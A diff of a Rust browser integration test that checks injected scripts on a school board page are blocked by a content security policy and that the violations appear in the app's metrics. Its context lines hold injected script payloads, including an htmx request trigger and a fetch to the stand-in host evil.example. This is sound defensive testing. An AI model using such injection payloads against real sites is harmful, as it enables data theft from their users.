@@ -106,7 +106,7 @@ const INJECTED: [(&str, &str); 9] = [
 ];
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a18_p25_whatever_came_into_a_page_runs_nothing_and_sends_nothing() {
+async fn a18_a20_p25_whatever_came_into_a_page_runs_nothing_sends_nothing_and_is_reported() {
     let (app, school, browser) = scene().await.unwrap();
     let board = format!("{}/hoy?colegio={}", app.base, school.id);
     for (what, script) in INJECTED {
@@ -134,6 +134,8 @@ async fn a18_p25_whatever_came_into_a_page_runs_nothing_and_sends_nothing() {
         htmx.process(add('div', {'hx-get': '/readyz', 'hx-trigger': 'load', 'hx-nonce': 'bm8'}));
         htmx.process(add('div', {'hx-sse:connect': '/metrics', 'hx-trigger': 'load'}));
         return fetch('https://evil.example/').then(() => 'sent', error => error.name)";
+    // One network's reports are few.
+    app.clock.advance(chrono::TimeDelta::minutes(2));
     browser.goto(&board).await.unwrap();
     assert_eq!(browser.execute(script).await.unwrap(), "TypeError");
     tokio::time::sleep(Duration::from_millis(500)).await;
@@ -148,6 +150,15 @@ async fn a18_p25_whatever_came_into_a_page_runs_nothing_and_sends_nothing() {
     }
     let here = browser.execute("return [location.pathname, document.querySelectorAll('main').length]").await.unwrap();
     assert_eq!(here, json!(["/hoy", 1]), "the page is what it was");
+    // And the browser has told us.
+    for directive in ["require-trusted-types-for", "frame-src", "style-src-attr"] {
+        crate::support::eventually(directive, async || {
+            let figures = app.get("/metrics").await?.text().await?;
+            Ok(figures.contains(&format!("csp_violations_total{{directive=\"{directive}\"}}")))
+        })
+        .await
+        .unwrap();
+    }
     app.shutdown().await;
 }
 
